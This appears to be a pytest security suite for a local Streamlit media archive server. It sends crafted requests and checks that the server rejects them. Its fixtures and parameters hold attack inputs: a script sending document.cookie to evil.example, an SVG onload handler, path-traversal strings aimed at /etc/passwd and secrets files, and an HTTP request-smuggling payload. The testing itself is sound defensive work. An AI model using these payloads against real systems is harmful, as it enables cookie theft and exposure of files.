"""The page attacked as a server: by raw requests, as no browser of ours sends them."""

from __future__ import annotations

import base64
import http.client
import json
import os
import secrets
import socket
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest

import verify
from page_server import Server, served
from ui import media_links, uploads

SECONDS = 60.0

SCRIPT = b"<html><script>fetch('//evil.example/' + document.cookie)</script></html>"


@pytest.fixture(scope="module")
def archive(samples: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Return an archive with pictures that are web pages too, web pages, and a drawing with a script."""
    folder = tmp_path_factory.mktemp("attacked")
    inbox = folder / "inbox"
    inbox.mkdir()
    flower = (samples / "media" / "flower.jpg").read_bytes()
    (inbox / "both.jpg").write_bytes(flower + SCRIPT)
    (inbox / "both.html").write_bytes(flower + SCRIPT + b"1")
    (inbox / "page.jpg").write_bytes(SCRIPT)
    (inbox / "page.html").write_bytes(SCRIPT + b"2")
    (inbox / "drawing.svg").write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    with verify.open_archive(folder / "archive") as opened, pytest.MonkeyPatch.context() as patch:
        opened.scan([inbox], jobs=1)
        patch.setenv("VERIFY_ARCHIVE", str(folder / "archive"))
        yield folder / "archive"


@pytest.fixture(scope="module")
def server(archive: Path) -> Iterator[Server]:
    with served(archive) as server:
        yield server


@pytest.fixture
def items(archive: Path) -> dict[str, str]:
    """Return the SHA-256 of every file, those that are no media too, by name."""
    with verify.open_archive(archive, create=False) as opened:
        return {os.fsdecode(item.paths[0].rsplit(b"/", 1)[-1]): item.sha256 for item in opened}


def connect(server: Server) -> http.client.HTTPConnection:
    place = urlsplit(server.url)
    return http.client.HTTPConnection(place.hostname or "", place.port, timeout=SECONDS)


def ask(
    server: Server, path: str, *, method: str = "GET", body: bytes | None = None, **headers: str
) -> tuple[int, http.client.HTTPMessage, bytes]:
    """Send one request; underscores in header names stand for hyphens."""
    connection = connect(server)
    connection.request(method, path, body, {name.replace("_", "-"): value for name, value in headers.items()})
    answer = connection.getresponse()
    said = answer.status, answer.headers, answer.read()
    connection.close()
    return said


def open_socket(server: Server, **headers: str) -> int:
    """Ask for Streamlit's WebSocket; return the status, 101 if it opens."""
    wanted = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec_WebSocket_Key": base64.b64encode(secrets.token_bytes(16)).decode(),
        "Sec_WebSocket_Version": "13",
    }
    connection = connect(server)
    sent = {name.replace("_", "-"): value for name, value in (wanted | headers).items()}
    connection.request("GET", "/_stcore/stream", headers=sent)
    status = connection.getresponse().status
    connection.close()
    return status


def test_it_listens_on_this_machine_alone(server: Server) -> None:
    """Every other address of the machine, here another one of its loopback network, is closed."""
    with (
        pytest.raises(ConnectionRefusedError),
        socket.create_connection(("127.0.0.2", urlsplit(server.url).port)),
    ):
        pass


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example:80", ""])
def test_another_name_is_refused_on_every_route(server: Server, items: dict[str, str], host: str) -> None:
    for path in ("/", "/_stcore/health", "/_stcore/host-config", media_links.original(items["both.jpg"])):
        assert ask(server, path, Host=host)[0] == 400
    assert ask(server, "/api/upload", method="POST", body=b"x", Host=host)[0] == 400
    assert open_socket(server, Host=host) in {400, 403}


def test_a_socket_opens_for_our_own_page_alone(server: Server) -> None:
    assert open_socket(server, Origin=server.url.rstrip("/")) == 101
    for origin in ("http://evil.example", "https://127.0.0.1.evil.example", "null", "http://localhost:3000"):
        assert open_socket(server, Origin=origin) == 403


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Sec_Fetch_Site": "cross-site"},
        {"Sec_Fetch_Site": "same-site"},
    ],
)
def test_another_site_gets_nothing_even_with_a_good_link_or_ticket(
    server: Server, archive: Path, items: dict[str, str], headers: dict[str, str]
) -> None:
    for link in (media_links.original(items["both.jpg"]), media_links.thumbnail(items["both.jpg"])):
        assert ask(server, link, Sec_Fetch_Site="same-origin")[0] == 200
        assert ask(server, link, **headers)[0] == 403
    sent = {"X_Verify_Ticket": uploads.ticket("test"), "X_Verify_Name": "foreign.jpg", **headers}
    assert ask(server, "/api/upload", method="POST", body=b"x", **sent)[0] == 403
    assert not list(archive.rglob("foreign.jpg"))


def test_no_answer_lets_another_site_read_it(server: Server, items: dict[str, str]) -> None:
    for path in ("/", media_links.original(items["both.jpg"])):
        for method in ("GET", "OPTIONS"):
            allowed = ask(server, path, method=method, Origin="http://evil.example")[1]
            assert allowed["Access-Control-Allow-Origin"] not in {"*", "http://evil.example", "null"}


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND"])
def test_links_can_only_be_read(server: Server, items: dict[str, str], method: str) -> None:
    assert ask(server, media_links.original(items["both.jpg"]), method=method)[0] == 405


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE"])
def test_uploads_can_only_be_posted(server: Server, method: str) -> None:
    assert ask(server, "/api/upload", method=method, X_Verify_Ticket=uploads.ticket("t"))[0] == 405


@pytest.mark.parametrize(
    "path",
    [
        "/api/", "/api/original", "/api/original/", "/api/thumbnail/",
        "/api/original/../../../../etc/passwd", "/api/original/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/api/original/..%5c..%5carchive.sqlite", "/api/original//etc/passwd", "/api/original/%00",
        "/app/static/", "/app/static/../archive.sqlite", "/static/../../../../etc/passwd",
        "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/media/../page.key", "/component/../../page.key",
        "/component/x/..%2f..%2f..%2fetc%2fpasswd", "/page.key", "/archive.sqlite",
        "/uploads/", "/.streamlit/secrets.toml",
    ],
)  # fmt: skip
def test_no_path_leads_to_a_file_or_a_list_of_files(server: Server, archive: Path, path: str) -> None:
    _, headers, body = ask(server, path)
    for hidden in (
        b"root:",
        (archive / "page.key").read_bytes(),
        b"SQLite format 3",
        b"archive.sqlite",
        b"page.key",
    ):
        assert hidden not in body
    assert "X-Content-Type-Options" in headers


def test_a_signature_is_good_for_one_item_one_use_and_its_days(server: Server, items: dict[str, str]) -> None:
    good, other = media_links.original(items["both.jpg"]), items["page.html"]
    path, query = good.split("?")
    until, proof = query.split("&")
    wrong = [
        path, f"{path}?{until}", f"{path}?{proof}", f"{path}?{until}&proof=", f"{path}?{until}&{proof[:-1]}",
        f"{path}?{until}&{proof}0", f"/api/original/{other}?{query}",
        f"/api/thumbnail/{items['both.jpg']}/0?{query}",
        f"{path}?until=99999&{proof}", f"{path}?until=-1&{proof}", f"{path}?until=1e9&{proof}",
        f"{path}?until={'9' * 5000}&{proof}", f"{path}?{until}&proof={uploads.ticket('t').split('.')[-1]}",
    ]  # fmt: skip
    assert ask(server, good)[0] == 200
    for link in wrong:
        assert ask(server, link)[0] == 403, link


def test_originals_are_never_a_page_of_ours(server: Server, items: dict[str, str]) -> None:
    for name, shown_as in (
        ("both.jpg", "image/jpeg"),
        ("both.html", "image/jpeg"),
        ("page.jpg", "application/octet-stream"),
        ("page.html", "application/octet-stream"),
        ("drawing.svg", "application/octet-stream"),
    ):
        status, headers, _ = ask(server, media_links.original(items[name]))
        assert (status, headers["Content-Type"]) == (200, shown_as)
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
        is_saved = headers["Content-Disposition"].startswith("attachment")
        assert is_saved == (shown_as == "application/octet-stream")


def test_the_page_can_be_neither_framed_nor_sniffed(server: Server) -> None:
    _, headers, _ = ask(server, "/")
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert "object-src 'none'" in headers["Content-Security-Policy"]
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"


@pytest.mark.parametrize(
    "wanted",
    [
        "bytes=5-1", "bytes=-", "bytes=a-b", "bytes=99999999999-", "bytes=-0", "bits=0-1", "bytes=0-1,",
        f"bytes=0-{'9' * 400}", "bytes=" + ",".join(f"{n}-{n}" for n in range(0, 4000, 2)),
        "bytes=0-,0-,0-,0-",
        "\xff",
    ],
)  # fmt: skip
def test_a_strange_range_is_answered_with_no_more_than_the_file(
    server: Server, items: dict[str, str], archive: Path, wanted: str
) -> None:
    link = media_links.original(items["both.jpg"])
    whole = (archive.parent / "inbox" / "both.jpg").read_bytes()
    status, _, body = ask(server, link, Range=wanted)
    assert status in {200, 206, 400, 416, 431}
    assert len(body) < 2 * len(whole)
    assert ask(server, link)[2] == whole


def test_streamlit_takes_no_upload_past_ours(server: Server) -> None:
    assert ask(server, "/_stcore/upload_file/session/file", method="PUT", body=b"x" * 100)[0] in {400, 403}


def test_an_upload_cannot_say_that_it_is_smaller_than_it_is(server: Server, archive: Path) -> None:
    """What is sent beyond the stated length is no part of the file, nor another request of ours."""
    smuggled = b"GET /api/original/x HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    connection = connect(server)
    connection.putrequest("POST", "/api/upload")
    for name, value in (("X-Verify-Ticket", uploads.ticket("test")), ("X-Verify-Name", "short.txt")):
        connection.putheader(name, value)
    connection.putheader("Content-Length", "5")
    connection.endheaders()
    connection.send(b"12345" + smuggled)
    said = json.loads(connection.getresponse().read())
    connection.close()
    (kept,) = archive.rglob("short.txt")
    assert (kept.read_bytes(), kept.parent.name) == (b"12345", said["sha256"])


def test_two_lengths_or_a_bad_one_are_refused(server: Server) -> None:
    place = urlsplit(server.url)
    for lengths in (
        "Content-Length: -5\r\n",
        "Content-Length: 5\r\nContent-Length: 6\r\n",
        "Content-Length: x\r\n",
    ):
        with socket.create_connection((place.hostname, place.port), SECONDS) as raw:
            raw.sendall(f"POST /api/upload HTTP/1.1\r\nHost: 127.0.0.1\r\n{lengths}\r\n12345".encode())
            assert b" 400 " in raw.recv(1000).split(b"\r\n")[0]
